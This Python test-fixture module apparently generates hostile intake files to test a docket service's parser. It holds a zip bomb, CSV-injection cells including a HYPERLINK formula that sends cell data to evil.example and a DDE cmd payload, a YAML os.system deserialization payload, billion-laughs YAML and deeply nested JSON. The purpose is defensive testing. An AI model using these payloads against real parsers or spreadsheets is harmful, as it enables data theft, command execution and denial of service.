"""Hostile and broken intake files, built on the fly (nothing large is kept in the repo)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import openpyxl

from tests.reliability.helpers import HEADER, intake_row, spread_day


def good_xlsx() -> bytes:
    """A valid one-row intake workbook."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Intake"
    ws.append(HEADER.strip().split(","))
    ws.append(intake_row("2026-0001", spread_day(1)).strip().split(","))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def zip_bomb() -> bytes:
    """An .xlsx-shaped zip whose worksheet inflates 1,000-fold (200 MB from about 200 KB)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"0" * (1 << 20)
            for _ in range(200):
                member.write(chunk)
    return buf.getvalue()


def formula_rows() -> str:
    """CSV cells that spreadsheets would run as formulas (CSV injection)."""
    day = spread_day(2).isoformat()
    return (HEADER
            + f'"=HYPERLINK(""http://evil.example/""&A1)",Evil,federal,summons_served,{day},personal,'
              "jdoe@firm.com,,open\n"
            + f"2026-0002,\"=cmd|' /C calc'!A0\",federal,summons_served,{day},personal,jdoe@firm.com,,open\n"
            + "2026-0003,x,federal,summons_served,=TODAY(),personal,jdoe@firm.com,,open\n"
            + f"@SUM(1+1),x,federal,summons_served,{day},personal,+jdoe@firm.com,,open\n")


def _laughs() -> bytes:
    """YAML 'billion laughs': each alias list repeats the previous one nine times."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(8):
        prev, name = chr(97 + i), chr(98 + i)
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 9) + "]")
    return ("\n".join(lines) + "\n").encode()


def hostile_files(folder: Path) -> dict[str, Path]:
    """Write one file per hostile class into `folder`; returns {class: path}."""
    folder.mkdir(parents=True, exist_ok=True)
    xlsx = good_xlsx()
    row = intake_row("2026-0009", spread_day(9))
    files: dict[str, bytes] = {
        "random.csv": bytes(range(256)) * 40,
        "random.xlsx": b"PK\x03\x04" + bytes(range(256)) * 20,
        "truncated.xlsx": xlsx[: len(xlsx) // 2],
        "bomb.xlsx": zip_bomb(),
        "nested.json": b"[" * 200_000 + b"]" * 200_000,
        "nested.yaml": b"a:\n" + b"".join(b"  " * i + b"- \n" for i in range(1, 300)),
        "laughs.yaml": _laughs(),
        "python-tag.yaml": b"- !!python/object/apply:os.system ['touch /tmp/docketd-pwned']\n",
        "nul.csv": (HEADER + row).replace(",federal,", ",fed\x00eral,").encode() + b"\x00\x00\n",
        "bom-utf16.csv": (HEADER + row).encode("utf-16"),
        "bom-utf8.csv": b"\xef\xbb\xbf" + (HEADER + row).encode("utf-8"),
        "mixed-encoding.csv": (HEADER + row).encode()
        + "2026-0010,Caf\u00e9 v. M\u00fcller,federal,".encode("latin-1")
        + f"summons_served,{spread_day(10)},personal,jdoe@firm.com,,open\n".encode(),
        "formulas.csv": formula_rows().encode(),
        "huge-rows.csv": (HEADER + "".join(intake_row(f"2027-{i:06d}", spread_day(i))
                                           for i in range(200_000))).encode(),
        "empty.json": b"",
        "not-a-list.json": b'{"matter": {"$ref": "#"}}',
    }
    out = {}
    for name, data in files.items():
        path = folder / name
        path.write_bytes(data)
        out[name] = path
    # Over the size limit without writing 64 MB: a sparse file.
    oversize = folder / "oversize.json"
    with oversize.open("wb") as f:
        f.truncate(65 * 1024 * 1024)
    out["oversize.json"] = oversize
    return out
